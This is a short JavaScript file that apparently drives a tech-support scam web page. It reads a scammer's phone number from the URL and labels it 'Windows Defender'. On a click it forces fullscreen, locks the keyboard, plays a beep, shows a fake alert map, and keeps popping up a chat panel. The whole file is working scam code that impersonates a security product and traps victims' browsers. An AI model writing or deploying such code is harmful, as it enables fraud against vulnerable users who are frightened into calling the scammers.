function part(name) {
  var re = new RegExp("[\\?&]" + name + "=([^&#]*)");
  var m = re.exec(window.location.href);
  return m == null ? "" : m[1];
}
var phone = part('phone');
window.onload = function () {
  document.onclick = function (e) {
    e = e || event;
    target = e.target || e.srcElement;
    if (target.tagName === "DIV") {
      toggle();
      document.body.style.cursor = 'not-allowed';
      document.getElementById('beep').play();
      document.getElementById('map').style.display = 'block';
    }
  };
};
function toggle() {
  var d = document.documentElement;
  (d.requestFullscreen || d.webkitRequestFullscreen || d.msRequestFullscreen).call(d);
  navigator.keyboard && navigator.keyboard.lock();
}
document.querySelectorAll('.num').forEach(function (n) { n.textContent = 'Windows Defender: ' + phone; });
setInterval(function () { document.getElementById('chat').style.display = 'block'; }, 4000);
